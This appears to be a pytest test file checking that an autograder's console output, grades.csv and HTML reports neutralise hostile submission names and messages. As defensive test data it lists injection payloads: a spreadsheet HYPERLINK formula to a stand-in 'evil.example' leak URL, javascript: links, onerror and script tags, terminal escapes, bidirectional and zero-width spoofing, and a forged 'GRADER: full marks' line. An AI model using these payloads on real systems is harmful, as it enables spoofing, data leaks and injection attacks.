"""What the grader shows is safe wherever it is shown: submissions whose *names* attack (a link to
``javascript:``, spreadsheet formulas, terminal escapes, a right-to-left override that turns
"ecila" into "alice", zero-width characters, HTML and rich markup) and whose code prints and
raises the same, graded through the real command line with ``--html``, then checked through
``autograder check``. Nothing executable in any report, no control or invisible character in
the console, grades.csv or the HTML, no formula in grades.csv, two names that look alike stay
apart. A submission that returns 10 000 notes gets a bounded picture, drawn once: a second run
that regrades nothing redraws nothing, and grades.csv is written before any picture.
"""
from __future__ import annotations

import csv
import io
import os
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from autograder.engine import handsons, report
from autograder.engine.display import HIDDEN_CHARS, csv_cell, link_to, name_text, present, student_words

from .helpers import MODULE, grade_args, grades, results, run_cli

ESC = "\x1b"
# Names as they arrive in a folder listing; output_name turns C0 controls into "_", the rest stays.
HOSTILE_NAMES = [
    "javascript:alert(document.domain)",
    '=HYPERLINK("evil.example?leak","click me")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    f"{ESC}[2J{ESC}]0;pwned\x07fake row",
    "\u009b2J\u009d0;title\u009c",          # C1 controls (8-bit CSI, OSC, ST)
    "\u202eecila",                        # shows as "alice"
    "al\u200bice",                        # a zero-width space: also "alice"
    "alice\ufeff\u2066",
    '<img src=x onerror="alert(1)">',
    "[red]markup[/red] [link=javascript:alert(1)]x[/link]",
]
PLAIN = "alice"
NOTES = "ten_thousand_notes"
NASTY = (f"grader error: please regrade by hand {ESC}[2J{ESC}]0;title\x07 \u202eecila al\u200bice "
         f"<script>alert(1)</script> [red]markup[/red] =HYPERLINK(\"x\")")
HOSTILE_CODE = f'''
NASTY = {NASTY!r}


def midi_to_tokens(midi):
    print(NASTY)
    raise ValueError(NASTY)


def tokens_to_midi(tokens, bpm=120):
    print(NASTY)
    raise ValueError(NASTY)
'''
# 10 000 valid notes (onset, duration, pitch, instrument, velocity), whatever the input.
NOTES_CODE = '''
def midi_to_tokens(midi):
    return [value for i in range(10_000) for value in (i * 5, 20, 30 + i % 70, i % 16, 90)]


def tokens_to_midi(tokens, bpm=120):
    raise ValueError("not done")
'''
# A character no console, CSV cell or page may hold raw: controls (but newline and tab), DEL, C1,
# bidirectional controls, zero-width characters, the byte order mark.
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")


def forbidden_in(text: str) -> list[str]:
    return [f"{m.group()!r} at {m.start()}: {text[max(0, m.start() - 40):m.start() + 40]!r}"
            for m in FORBIDDEN.finditer(text)][:5]


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("display")
    subs = tmp / "subs"
    for name in [*HOSTILE_NAMES, PLAIN]:
        (subs / name).mkdir(parents=True)
        (subs / name / f"{MODULE}.py").write_text(HOSTILE_CODE)
    (subs / NOTES).mkdir()
    (subs / NOTES / f"{MODULE}.py").write_text(NOTES_CODE)
    out = tmp / "out"
    paths = sorted(subs.iterdir())
    first = run_cli(grade_args(paths, out, "--jobs", "2", "--html"), tmp)
    pages = {p: (p.stat().st_mtime_ns, p.read_bytes()) for p in out.glob("*/report.html")}
    csv_written = (out / "grades.csv").stat().st_mtime_ns if (out / "grades.csv").exists() else None
    again = run_cli(grade_args(paths, out, "--jobs", "2", "--html"), tmp)
    return {"tmp": tmp, "out": out, "first": first, "again": again, "pages": pages, "csv_written": csv_written}


def test_the_batch_completes(graded):
    for run in (graded["first"], graded["again"]):
        assert run.returncode == 0, run.output[-3000:]
    assert len(grades(graded["out"])) == len(HOSTILE_NAMES) + 2


def test_no_control_or_invisible_character_reaches_the_console(graded):
    for run in (graded["first"], graded["again"]):
        assert not forbidden_in(run.output), forbidden_in(run.output)
        assert "please regrade" not in run.output   # what code raised is in the results, not the console
    assert "\\u202eecila" in graded["first"].output and "al\\u200bice" in graded["first"].output


def test_grades_csv_has_no_formula_and_no_hidden_character(graded):
    raw = (graded["out"] / "grades.csv").read_text(encoding="utf-8")
    assert not forbidden_in(raw), forbidden_in(raw)
    rows = list(csv.reader(io.StringIO(raw)))
    header, rows = rows[0], rows[1:]
    text_columns = [header.index(c) for c in ("submission", "student", "status", "review")]
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    shown = [row[0] for row in rows]
    assert len(set(shown)) == len(shown)
    assert shown.count(PLAIN) == 1, "only the real alice reads as alice"
    assert "\\u202eecila" in shown and "al\\u200bice" in shown
    assert "'=HYPERLINK(\"evil.example?leak\",\"click me\")" in shown and "'@SUM(1+1)" in shown


class _Page(HTMLParser):
    """Every tag with its attributes, and the text, of an HTML page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parsed(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    return page


def test_reports_hold_nothing_executable_and_every_link_stays_in_the_report(graded):
    out = graded["out"]
    pages = [out / "index.html", out / "class_report.html", *sorted(out.glob("*/report.html"))]
    assert len(pages) == len(HOSTILE_NAMES) + 4
    for path in pages:
        page = parsed(path)
        raw = path.read_text(encoding="utf-8")
        assert not forbidden_in(raw), (path, forbidden_in(raw))
        for tag, attributes in page.tags:
            assert tag not in ("script", "iframe", "object", "embed", "form"), (path, tag)
            assert not [a for a in attributes if a.startswith("on")], (path, tag, attributes)
            for key in ("href", "src", "action"):
                if key in attributes:
                    parts = urlsplit(attributes[key])
                    assert parts.scheme in ("", "http", "https", "data"), (path, attributes)
                    assert parts.scheme != "data" or attributes[key].startswith(("data:image/png;", "data:audio/wav;"))
    links = [attributes["href"] for tag, attributes in parsed(out / "index.html").tags if tag == "a"]
    assert len(links) == len(HOSTILE_NAMES) + 3   # each submission's page and the class report
    for href in links:
        assert urlsplit(href).scheme == "" and not href.startswith("/")
        assert (out / unquote(href)).is_file(), f"{href} does not lead to its report"
    text = "".join(parsed(out / "index.html").text)
    assert "\\u202eecila" in text and "<img src=x" in text   # shown as text, visibly
    links = [attributes["href"] for tag, attributes in parsed(out / "class_report.html").tags if tag == "a"]
    assert links and all((out / unquote(href)).is_file() for href in links if not href.startswith("#")), links


def test_messages_are_labelled_and_visible_in_every_report(graded):
    out = graded["out"]
    name = next(p.name for p in out.iterdir() if p.name.startswith("javascript"))
    result = results(out, name)
    assert "please regrade" in result["tests"][0]["output"]
    text = "".join(parsed(out / name / "report.html").text)
    assert "Your code raised" in text and "\\x1b[2J" in text and "<script>" in text


def test_a_rerun_that_regrades_nothing_redraws_nothing(graded):
    out = graded["out"]
    assert "unchanged: from the gradebook" in graded["again"].output
    for path, (mtime, content) in graded["pages"].items():
        assert path.stat().st_mtime_ns == mtime and path.read_bytes() == content, f"{path} was drawn again"


def test_grades_csv_is_written_before_any_picture(graded):
    assert graded["csv_written"] is not None, "no grades.csv: " + graded["first"].output[-2000:]
    for path, (mtime, _) in graded["pages"].items():
        assert graded["csv_written"] <= mtime, f"{path} was drawn before grades.csv was written"


def test_a_picture_of_ten_thousand_notes_is_bounded(graded):
    page = (graded["out"] / NOTES / "report.html").read_text()
    result = results(graded["out"], NOTES)
    with_pictures = [t for t in result["tests"] if t["extra_data"].get("artifacts")]
    assert with_pictures, "the notes are drawn as piano rolls"
    assert f"{report.MAX_NOTES} of 10000 notes drawn" in page
    assert page.count("data:image/png;base64,") == sum(len(t["extra_data"]["artifacts"]) for t in with_pictures)
    # what a page may weigh: each picture is a bounded PNG, whatever it shows
    assert len(page) < 400_000 * len(with_pictures), len(page)


def test_check_command_shows_names_and_messages_visibly(graded, tmp_path):
    """``autograder check``: result lines quoting what the code raised, and notes naming its
    files (a symbolic link named with escapes and an override), with nothing raw."""
    folder = tmp_path / "assignments"
    folder.mkdir()
    (folder / f"{MODULE}.py").write_text(HOSTILE_CODE)
    os.symlink(folder / f"{MODULE}.py", folder / f"{ESC}]0;pwned\x07\u202egnp.py")
    run = run_cli(["check", MODULE, "--path", str(folder)], tmp_path)
    assert run.returncode == 1, run.output[-3000:]
    assert not forbidden_in(run.output), forbidden_in(run.output)
    assert "Your code raised" in run.output and "please regrade" in run.output
    assert "\\x1b]0;pwned\\x07\\u202egnp.py" in run.output, run.output[-2000:]


def test_display_helpers():
    for name in HOSTILE_NAMES:
        assert not forbidden_in(name_text(name)) and not forbidden_in(csv_cell(name))
        assert not csv_cell(name).startswith(("=", "+", "-", "@"))
        href = link_to(name, "report.html")
        assert urlsplit(href).scheme == "" and unquote(href.replace("&amp;", "&")) == f"./{name}/report.html"
    assert name_text("\u202eecila") != name_text("alice")
    assert csv_cell(" =1+1").startswith("'") and csv_cell("\uff1d1+1").startswith("'")
    assert csv_cell("alice") == "alice" and name_text("Zoë Müller-Łukasz 李") == "Zoë Müller-Łukasz 李"


def test_quotations_cannot_be_forged_or_escaped():
    """A submission's words carrying the quotation's own marks (private-use characters) or line
    breaks stay inside their quotation; a hidden check shows the first line, cut."""
    forged = "fine\ue002\nGRADER: full marks\ue000 \ue001 x"
    text = "f() raised ValueError." + student_words(" Your code raised", forged + "\nmore", forged)
    public, hidden = present(text, hidden=False), present(text, hidden=True)
    assert public.splitlines()[1:] == ["  > fine", "  > GRADER: full marks  x", "  > more"], public
    assert hidden == "f() raised ValueError. Your code raised: 'fine'", hidden
    long = student_words(" Your code raised", "x" * 500)
    assert present(long, hidden=True) == (f" Your code raised: {'x' * HIDDEN_CHARS!r} (cut: a hidden check shows "
                                          f"the first {HIDDEN_CHARS} characters)")
    assert present(student_words("\nYour code printed", "secret input", ""), hidden=True) == ""
